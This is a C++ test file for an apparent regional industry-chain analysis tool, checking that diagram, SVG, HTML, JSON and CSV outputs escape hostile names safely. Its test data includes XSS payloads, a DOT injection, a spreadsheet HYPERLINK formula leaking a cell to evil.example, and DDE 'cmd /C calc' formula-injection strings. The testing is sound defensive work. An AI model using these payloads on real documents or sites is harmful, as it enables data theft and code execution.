// Names in the data are text, never code, in every output: a dataset whose every name is hostile
// (DOT syntax that would close a label and open a graph, markup, a spreadsheet formula, line
// breaks, control characters, bidirectional marks, Graphviz escapes) gives diagrams, SVG and HTML
// with exactly the structure of the same dataset under harmless names, and JSON from which the
// names read back unchanged. The narrower tests beside the writers (render_test, html_report_test)
// check the escaping of particular characters; these compare whole outputs.

#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include "chainatlas/analysis/critical.hpp"
#include "chainatlas/analysis/gaps.hpp"
#include "chainatlas/analysis/overview.hpp"
#include "chainatlas/analysis/targets.hpp"
#include "chainatlas/graph/region_graph.hpp"
#include "chainatlas/io/load_dataset.hpp"
#include "chainatlas/render/diagram.hpp"
#include "chainatlas/render/dot_writer.hpp"
#include "chainatlas/render/graphviz_render.hpp"
#include "chainatlas/io/csv_reader.hpp"
#include "chainatlas/report/chain_writers.hpp"
#include "chainatlas/report/csv_writer.hpp"
#include "chainatlas/report/html_report.hpp"
#include "chainatlas/report/json_writer.hpp"
#include "support/dataset_builder.hpp"

namespace chainatlas::report {
namespace {

using testing::DatasetBuilder;

const std::vector<std::string>& hostile_names() {
    static const std::vector<std::string> names = {
        "\"]; digraph { x [label=\"pwned\"] } #",
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
        "A & B <b>粗</b> 'q' \"dq\" >",
        "第一行\n第二行\r\n第三行",
        "控制\x01\x02\x1b[31m\x7f字符\t制表",
        "\u202e反向\u200f标记\u202c.exe",
        "\\N \\G \\L \\l \\\\ \\",
        "]]> --> <!-- <![CDATA[",
        "@SUM(1+1) +1 -2 \"",
        "<img src=x onerror=alert(2)>",
        "}}} ]]] >>> \" ' ` ;",
    };
    return names;
}

/// The same region under harmless names (`hostile` false) or under hostile ones: counties,
/// a park, two chains with a cross link, local and external enterprises, a leader, supplies, a
/// building project. Every name, the region's and the segments' included, is replaced.
model::Dataset region(bool hostile) {
    std::size_t next = 0;
    const auto name = [&](const std::string& plain) {
        const auto& list = hostile_names();
        return hostile ? list[next++ % list.size()] + plain : plain;
    };
    DatasetBuilder b;
    b.county("a", name("甲县")).county("b", name("乙县"));
    b.park("p", "a", name("园区"));
    b.chain("c", {"c.up", "c.mid", "c.down"}, name("链")).link("c.up", "c.mid").link("c.mid", "c.down");
    b.chain("d", {"d.x", "d.y"}, name("二链")).link("d.x", "d.y");
    b.cross_link("c.down", "d.x");
    b.enterprise("e1", "a", {"c.up", "d.x"}).name(name("一厂")).output(3.0).tag("chain-leader").in_park("p");
    b.enterprise("e2", "b", {"c.down"}).name(name("二厂")).output(1.0);
    b.enterprise("e3", "b", {"c.down", "d.y"}).name(name("三厂"));
    b.leader("c", "e1");
    b.external("x1", {"c.mid"}, name("外地")).name(name("候选"));
    b.supply("e1", "e2").supply("e2", "e3");
    b.project("p1", "a", {"c.mid"}, model::ProjectStatus::building, 2.0).name(name("项目"));
    auto doc = nlohmann::ordered_json::parse(b.json());
    doc["region"]["name"] = name("市");
    for (auto& chain : doc["chains"]) {
        for (auto& segment : chain["segments"]) segment["name"] = name("环节");
    }
    return io::load_dataset_from_json(doc.dump(), "hostile.json").dataset;
}

std::size_t count_of(const std::string& text, const std::string& what) {
    std::size_t n = 0;
    for (auto pos = text.find(what); pos != std::string::npos; pos = text.find(what, pos + 1)) ++n;
    return n;
}

std::vector<render::Diagram> diagrams(const graph::RegionGraph& graph) {
    return {render::build_chain_map(graph, "c", {}), render::build_chain_map(graph, "d", {}),
            render::build_cluster_diagram(graph, "c", render::ClusterBy::county, {}),
            render::build_cluster_diagram(graph, "c", render::ClusterBy::park, {}),
            render::build_county_map(graph, "a", {}), render::build_county_map(graph, "b", {}),
            render::build_region_overview(graph, {})};
}

/// The syntax of a DOT text with the text taken out: its punctuation at the top level, `S` for
/// each quoted string, and the tags of each HTML-like label (`<` … `>`, nested). A name that
/// escaped its string or label would change it.
std::string dot_structure(const std::string& dot) {
    std::string out;
    std::size_t i = 0;
    while (i < dot.size()) {
        const char c = dot[i];
        if (c == '"') {
            for (++i; i < dot.size() && dot[i] != '"'; ++i) {
                if (dot[i] == '\\') ++i;
            }
            ++i;
            out += 'S';
        } else if (c == '<') {
            int depth = 0;
            do {
                if (dot[i] == '<') ++depth, out += '<';
                if (dot[i] == '>') --depth, out += '>';
                if (dot[i] == '\n') out += 'N';
                ++i;
            } while (i < dot.size() && depth > 0);
        } else {
            if (std::string_view("[]{};=,\n").find(c) != std::string_view::npos) out += c;
            ++i;
        }
    }
    return out;
}

TEST(HostileNames, DotOfEveryDiagramHasTheSyntaxOfHarmlessNames) {
    const auto plain_data = region(false);
    const auto hostile_data = region(true);
    const graph::RegionGraph plain_graph(plain_data);
    const graph::RegionGraph hostile_graph(hostile_data);
    const auto plain = diagrams(plain_graph);
    const auto hostile = diagrams(hostile_graph);
    ASSERT_EQ(plain.size(), hostile.size());
    for (std::size_t i = 0; i < plain.size(); ++i) {
        const std::string dot = render::to_dot(hostile[i], {});
        EXPECT_EQ(dot_structure(dot), dot_structure(render::to_dot(plain[i], {}))) << plain[i].id;
        EXPECT_EQ(dot.find('\x1b'), std::string::npos) << plain[i].id;
        EXPECT_EQ(dot.find('\r'), std::string::npos) << plain[i].id;
    }
}

TEST(HostileNames, SvgOfEveryDiagramHasTheShapeOfHarmlessNames) {
    const auto plain_data = region(false);
    const auto hostile_data = region(true);
    const graph::RegionGraph plain_graph(plain_data);
    const graph::RegionGraph hostile_graph(hostile_data);
    const auto plain = diagrams(plain_graph);
    const auto hostile = diagrams(hostile_graph);
    for (std::size_t i = 0; i < plain.size(); ++i) {
        const std::string svg = render::render_dot(render::to_dot(hostile[i], {}), render::Format::svg);
        const std::string plain_svg = render::render_dot(render::to_dot(plain[i], {}), render::Format::svg);
        EXPECT_EQ(count_of(svg, "<"), count_of(plain_svg, "<")) << plain[i].id;
        EXPECT_EQ(count_of(svg, "<g id="), count_of(plain_svg, "<g id=")) << plain[i].id;
        EXPECT_EQ(svg.find("<script"), std::string::npos) << plain[i].id;
        EXPECT_EQ(svg.find("<img"), std::string::npos) << plain[i].id;
        EXPECT_EQ(svg.find('\x1b'), std::string::npos) << plain[i].id;
        EXPECT_EQ(svg.find('\x01'), std::string::npos) << plain[i].id;
    }
}

TEST(HostileNames, HtmlReportHasTheShapeOfHarmlessNames) {
    const auto plain_data = region(false);
    const auto hostile_data = region(true);
    ReportOptions options;
    options.diagrams = false;
    const auto html_of = [&](const model::Dataset& data) {
        const graph::RegionGraph graph(data);
        std::ostringstream out;
        write_html_report(out, assemble_report(graph, options), options);
        return out.str();
    };
    const std::string plain = html_of(plain_data);
    const std::string hostile = html_of(hostile_data);
    EXPECT_EQ(count_of(hostile, "<"), count_of(plain, "<"));
    EXPECT_EQ(count_of(hostile, ">"), count_of(plain, ">"));
    EXPECT_EQ(count_of(hostile, "\""), count_of(plain, "\""));
    EXPECT_EQ(hostile.find('\x1b'), std::string::npos);
    EXPECT_NE(hostile.find("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1"), std::string::npos);
}

/// Every string anywhere in a JSON document.
void collect_strings(const nlohmann::json& value, std::vector<std::string>& out) {
    if (value.is_string()) out.push_back(value.get<std::string>());
    if (value.is_structured()) {
        for (const auto& item : value) collect_strings(item, out);
    }
}

TEST(HostileNames, JsonOutputsGiveTheNamesBackUnchanged) {
    const auto data = region(true);
    const graph::RegionGraph graph(data);
    std::vector<Json> bodies;
    bodies.push_back(to_json(analysis::compute_stats(graph)));
    bodies.push_back(to_json(analysis::list_chains(graph)));
    bodies.push_back(to_json(analysis::show_record(graph, "e1")));
    bodies.push_back(to_json(analysis::show_record(graph, "x1")));
    bodies.push_back(to_json(analysis::find_gaps(graph, {})));
    bodies.push_back(to_json(analysis::find_targets(graph, {})));
    bodies.push_back(to_json(analysis::find_critical(graph, {})));
    std::vector<std::string> strings;
    for (const auto& body : bodies) {
        std::ostringstream out;
        write_json(out, data, body);
        const std::string text = out.str();
        for (const char c : text) {
            const auto byte = static_cast<unsigned char>(c);
            EXPECT_TRUE(byte >= 0x20 || c == '\n') << "raw control character " << int{byte} << " in JSON";
        }
        collect_strings(nlohmann::json::parse(text), strings);
    }
    for (const auto& name : {data.enterprises[data.find(model::Section::enterprise, "e1")].name,
                             data.enterprises[data.find(model::Section::enterprise, "x1")].location,
                             data.chains[0].name, data.segments[0].name, data.counties[0].name}) {
        EXPECT_NE(std::find(strings.begin(), strings.end(), std::string(name)), strings.end())
            << "name not read back: " << name;
    }
}

TEST(HostileNames, CsvForSpreadsheetsKeepsEveryNameInItsCellAndNoFormulaRuns) {
    // Each hostile name alone, and with a formula start, as a spreadsheet-bound CSV row of
    // (id, name, output): read back, every row has its three cells, the name is unchanged or
    // (for a formula start) behind one quote mark, and the number is untouched.
    std::vector<std::string> names = hostile_names();
    for (const auto* start : {"=", "+", "-", "@", "\t", "\r", "=-", "-=", "+\"", "@@"}) {
        names.push_back(std::string(start) + "1+cmd|' /C calc'!A0");
    }
    std::ostringstream out;
    {
        CsvWriter csv(out, {.neutralise_formulas = true, .byte_order_mark = true, .line_end = "\r\n"});
        for (std::size_t i = 0; i < names.size(); ++i) csv.cell("e" + std::to_string(i)).cell(names[i]).number(-1.5).end_row();
    }
    std::string text = out.str();
    ASSERT_TRUE(text.starts_with("\xEF\xBB\xBF"));
    text.erase(0, 3);
    std::vector<std::vector<std::string>> rows;
    const auto problem = io::read_csv(text, [&](const io::CsvRow& row) {
        rows.emplace_back(row.fields.begin(), row.fields.end());
        return true;
    });
    ASSERT_TRUE(problem.message.empty()) << problem.message;
    ASSERT_EQ(rows.size(), names.size());
    for (std::size_t i = 0; i < names.size(); ++i) {
        ASSERT_EQ(rows[i].size(), 3U) << names[i];
        EXPECT_EQ(rows[i][0], "e" + std::to_string(i));
        EXPECT_EQ(rows[i][2], "-1.5");
        const std::string& cell = rows[i][1];
        if (looks_like_formula(names[i])) {
            EXPECT_EQ(cell, "'" + names[i]);
        } else {
            EXPECT_EQ(cell, names[i]);
        }
        EXPECT_TRUE(std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos)
            << "a spreadsheet would run " << cell;
    }
}

}  // namespace
}  // namespace chainatlas::report
